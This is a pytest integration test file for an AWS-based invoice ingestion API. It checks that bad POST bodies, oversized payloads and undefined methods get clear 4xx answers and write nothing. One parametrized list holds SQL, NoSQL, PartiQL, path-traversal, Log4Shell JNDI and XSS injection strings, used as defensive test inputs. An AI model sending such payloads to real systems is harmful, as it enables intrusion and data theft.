"""Bad requests to the ingestion API: each gets a clear 4xx, and nothing is written anywhere.

The API is the one notebook 03 builds (``helpers.ingestion_api``: POST and GET methods, a JSON
Schema model checked by a request validator, an API key), in front of the stream pipeline of
``helpers.benchmarking`` (Kinesis, the S3 and DynamoDB consumers). Each case sends requests
marked with an EventId or InvoiceNo of its own, then checks the Kinesis stream, the raw layer in
S3 and both DynamoDB tables: none holds the mark.

Where API Gateway answers before the function runs, the answer is AWS's own, as documented:
- a body over 10 MB: 413 ``{"message": "Request Too Long"}``, the REQUEST_TOO_LARGE gateway
  response ("Amazon API Gateway quotas", payload size 10 MB, https://docs.aws.amazon.com/apigateway/latest/developerguide/limits.html;
  "Gateway response types", https://docs.aws.amazon.com/apigateway/latest/developerguide/supported-gateway-response-types.html);
- a body the model refuses, malformed JSON included: 400 ``{"message": "Invalid request body"}``
  (BAD_REQUEST_BODY, "Use request validation in API Gateway");
- a method the resource does not define (PUT, DELETE, PATCH): 403 ``{"message": "Missing
  Authentication Token"}``, API Gateway's answer for any method or path the API does not define
  (MISSING_AUTHENTICATION_TOKEN), not 405.
A body between the function's own limit (5 MiB, one Kinesis PutRecords) and the 6 MB Lambda
invoke payload is refused by the function with 413; above 6 MB ("Lambda quotas": invocation payload
6 MB, synchronous, https://docs.aws.amazon.com/lambda/latest/dg/gettingstarted-limits.html) the
function cannot run at all, see ``test_a_body_over_lambdas_6_mb_invoke_limit``.
"""

from __future__ import annotations

import dataclasses
import json
import uuid
from collections.abc import Iterator
from dataclasses import dataclass

import pytest
import requests

from helpers import config, ingestion_api, storage
from helpers.benchmarking import Pipeline, pipeline_for, raw_lines, scan, wait_until

pytestmark = pytest.mark.integration

MB = 1024 * 1024
VALID = {
    "EventId": "reliability.csv:1", "InvoiceNo": "536365", "StockCode": "85123A", "Description": "WHITE HANGING HEART T-LIGHT HOLDER",
    "Quantity": 6, "InvoiceDate": "2010-12-01 08:26:00", "UnitPrice": 2.55, "CustomerID": "17850", "Country": "United Kingdom",
}  # fmt: skip


@dataclass
class Api:
    pipeline: Pipeline
    url: str
    key: str

    def send(
        self, method: str, *, body: bytes | None = None, params: dict | None = None, content_type: str = "application/json"
    ) -> requests.Response:
        headers = {"x-api-key": self.key, "Content-Type": content_type}
        return requests.request(method, self.url, data=body, params=params, headers=headers, timeout=60)


@pytest.fixture(scope="module")
def api(local_cloud) -> Iterator[Api]:
    """The stream pipeline with notebook 03's API (its own name: the pipeline's builder makes another)."""
    with pipeline_for(local_cloud, uuid.uuid4().hex[:6]) as pipeline:
        s = pipeline.settings
        notebook_names = dataclasses.replace(s.names, api_name=f"{s.names.api_name}-notebook")
        with pytest.MonkeyPatch.context() as patch:
            patch.setattr(config, "settings", lambda: dataclasses.replace(s, names=notebook_names))
            built = ingestion_api.ensure_api(pipeline.function("kinesis_api"))
            key = built.key_value()
        yield Api(pipeline, built.url, key)


def assert_nothing_written(api: Api, mark: str) -> None:
    """No Kinesis record, raw S3 line or DynamoDB item holds ``mark``."""
    names = api.pipeline.names
    assert not [r for r in storage.iter_records(names.stream) if mark in json.dumps(r, default=str)]
    assert not [line for line in raw_lines(api.pipeline)[1] if mark in json.dumps(line)]
    for table in (names.invoice_table, names.customer_table):
        assert not [item for item in scan(table) if mark in json.dumps(item, default=str)]


def event(mark: str, **changes) -> dict:
    return {**VALID, "EventId": f"{mark}:1", **changes}


def body_of(*events: dict) -> bytes:
    return json.dumps(list(events)).encode()


def latin_1_body(mark: str) -> bytes:
    return json.dumps([event(mark, Description="CAF\u00c9")], ensure_ascii=False).encode("latin-1")


# (case id, body of a marked request, status, what the message says or the function's {field: problem});
# a case id with "-as-<type>" sends that Content-Type instead of application/json.
POSTS = [
    ("malformed-json", lambda m: b'[{"EventId": "' + m.encode() + b':1", "InvoiceNo": ', 400, "Invalid request body"),
    ("trailing-garbage", lambda m: body_of(event(m)) + b" }", 400, "Invalid request body"),
    ("not-an-object", lambda m: json.dumps(f"{m} is a string").encode(), 400, "Invalid request body"),
    ("empty-array", lambda m: b"[]", 400, "Invalid request body"),
    ("array-of-non-objects", lambda m: json.dumps([m, 1]).encode(), 400, "Invalid request body"),
    ("501-events", lambda m: body_of(*[event(m, EventId=f"{m}:{i}") for i in range(501)]), 400, "Invalid request body"),
    ("no-body", lambda m: b"", 400, "the body must be one event (a JSON object) or a JSON array of events"),
    ("wrong-types", lambda m: body_of(event(m, Quantity="six", UnitPrice="2.55", InvoiceDate=20101201)), 400,
     {"Quantity": "an integer (negative for a cancellation)", "UnitPrice": "a number",
      "InvoiceDate": "a date and time such as '12/1/10 8:26' (month/day/year) or '2010-12-01T08:26:00'"}),
    ("boolean-quantity", lambda m: body_of(event(m, Quantity=True)), 400, {"Quantity": "an integer (negative for a cancellation)"}),
    ("missing-fields", lambda m: body_of({"EventId": f"{m}:1", "Country": "France"}), 400,
     {"InvoiceNo": "required", "StockCode": "required", "Quantity": "required", "InvoiceDate": "required", "UnitPrice": "required"}),
    ("unknown-field", lambda m: body_of(event(m, Discount=0.1)), 400,
     {"Discount": "unknown field; the event fields are EventId, InvoiceNo, StockCode, Description, Quantity, InvoiceDate, UnitPrice, CustomerID, Country"}),
    ("one-bad-event-among-good-ones", lambda m: body_of(event(m), event(m, EventId=f"{m}:2", InvoiceNo="12345")), 400,
     {"InvoiceNo": "6 digits, optionally after one capital letter (C for a cancellation), e.g. 536365"}),
    # Python's json, like the local request validator, reads NaN; the function refuses it.
    ("nan", lambda m: body_of(event(m)).replace(b"2.55", b"NaN"), 400, "the body is not valid JSON: NaN is not valid JSON"),
    # Bytes that are not UTF-8: the model check refuses a JSON body; a body of a type no model checks
    # reaches the function as text with U+FFFD in their place, and the function refuses it.
    ("invalid-utf8", lambda m: latin_1_body(m), 400, "Invalid request body"),
    ("invalid-utf8-as-text/plain", lambda m: latin_1_body(m), 400, "the body is not valid UTF-8"),
    ("over-5-mib-under-6-mb", lambda m: body_of(event(m)) + b" " * (5 * MB + 100), 413, "the limit is 5242880"),
    ("over-10-mb", lambda m: body_of(event(m)) + b" " * (10 * MB + 1), 413, "Request Too Long"),
]


@pytest.mark.parametrize("case, make_body, status, says", POSTS, ids=[case[0] for case in POSTS])
def test_a_bad_post_gets_a_clear_4xx_and_writes_nothing(api, case, make_body, status, says):
    mark = f"bad-request-{case}-{uuid.uuid4().hex[:6]}"
    answer = api.send("POST", body=make_body(mark), content_type=case.partition("-as-")[2] or "application/json")
    assert answer.status_code == status, answer.text[:500]
    body = answer.json()
    if isinstance(says, str):
        assert says in body["message"]
    else:
        assert "nothing was written" in body["message"]
        assert {name: text for error in body["errors"] for name, text in error["fields"].items()} == says
    assert_nothing_written(api, mark)


def test_a_body_over_lambdas_6_mb_invoke_limit_is_api_gateways_500_and_writes_nothing(api):
    """Between 6 MB and API Gateway's 10 MB, the request passes API Gateway, but its Lambda Invoke
    is refused (RequestEntityTooLargeException): the function never runs, and API Gateway answers
    with its generic 500 "Internal server error", as it does for Lambda service errors ("How do I
    troubleshoot issues for API Gateway endpoints that integrate with Lambda?", AWS re:Post
    knowledge center, "Lambda service exceptions"). No 4xx is possible there without a WAF rule on
    the body size. Nothing is written. (The workbook's client never sends such a body: at most 500
    events of about 1 KB; it would retry a 500.)"""
    mark = f"bad-request-over-6-mb-{uuid.uuid4().hex[:6]}"
    answer = api.send("POST", body=body_of(event(mark)) + b" " * (7 * MB))
    assert (answer.status_code, answer.json()) == (500, {"message": "Internal server error"})
    assert_nothing_written(api, mark)


@pytest.fixture(scope="module")
def stored_invoice(api) -> dict:
    """One invoice and customer in DynamoDB: what an injection must not leak."""
    answer = api.send("POST", body=body_of(VALID))
    assert answer.status_code == 200, answer.text
    found = wait_until(lambda: (r := api.send("GET", params={"CustomerID": VALID["CustomerID"]})).status_code == 200 and r.json())
    assert [i["InvoiceNo"] for i in found["Invoices"]] == [VALID["InvoiceNo"]]
    return found


# SQL, NoSQL (MongoDB operators, DynamoDB expressions and PartiQL) and other injection attempts.
INJECTIONS = [
    ("InvoiceNo", "536365' OR '1'='1"),
    ("InvoiceNo", '536365" OR 1=1 --'),
    ("InvoiceNo", "536365; DROP TABLE invoice_lines; --"),
    ("InvoiceNo", "' UNION SELECT * FROM customer --"),
    ("InvoiceNo", "#n = :v OR attribute_exists(InvoiceNo)"),
    ("InvoiceNo", "536365\x00"),
    ("InvoiceNo", "../../536365"),
    ("CustomerID", '{"$ne": null}'),
    ("CustomerID", '{"$gt": ""}'),
    ("CustomerID", "17850 OR attribute_exists(CustomerID)"),
    ("CustomerID", "SELECT * FROM \"customer\" WHERE CustomerID = '17850'"),
    ("CustomerID", "*"),
    ("CustomerID", "${jndi:ldap://example.com/a}"),
    ("CustomerID", "<script>alert(1)</script>"),
]


@pytest.mark.parametrize("name, value", INJECTIONS, ids=[f"{n}={v}" for n, v in INJECTIONS])
def test_an_injection_in_a_query_parameter_is_a_plain_value_refused_with_400(api, stored_invoice, name, value):
    answer = api.send("GET", params={name: value})
    assert answer.status_code == 400, answer.text
    body = answer.json()
    assert set(body) == {"message"}  # no invoice, no customer: nothing leaked
    assert body["message"] == f"{name} {value.strip()!r}: " + (
        "6 digits, optionally after one capital letter" if name == "InvoiceNo" else "letters or digits, up to 32"
    )


def test_well_formed_values_that_match_nothing_are_404_not_a_scan(api, stored_invoice):
    for params in ({"InvoiceNo": "999999"}, {"CustomerID": "99999"}):
        answer = api.send("GET", params=params)
        assert answer.status_code == 404 and set(answer.json()) == {"message"}
    both = api.send("GET", params={"InvoiceNo": VALID["InvoiceNo"], "CustomerID": VALID["CustomerID"]})
    assert (both.status_code, both.json()) == (400, {"message": "give exactly one query parameter: InvoiceNo or CustomerID"})


@pytest.mark.parametrize("method", ["PUT", "DELETE", "PATCH"])
def test_a_method_the_api_does_not_define_is_403_missing_authentication_token_and_writes_nothing(api, method):
    """API Gateway answers any method or path an API does not define with 403 and this message,
    not 405 (gateway response MISSING_AUTHENTICATION_TOKEN, "Gateway response types")."""
    mark = f"bad-request-{method}-{uuid.uuid4().hex[:6]}"
    answer = api.send(method, body=body_of(event(mark)))
    assert (answer.status_code, answer.json()) == (403, {"message": "Missing Authentication Token"})
    assert answer.headers["x-amzn-ErrorType"] == "MissingAuthenticationTokenException"
    assert_nothing_written(api, mark)
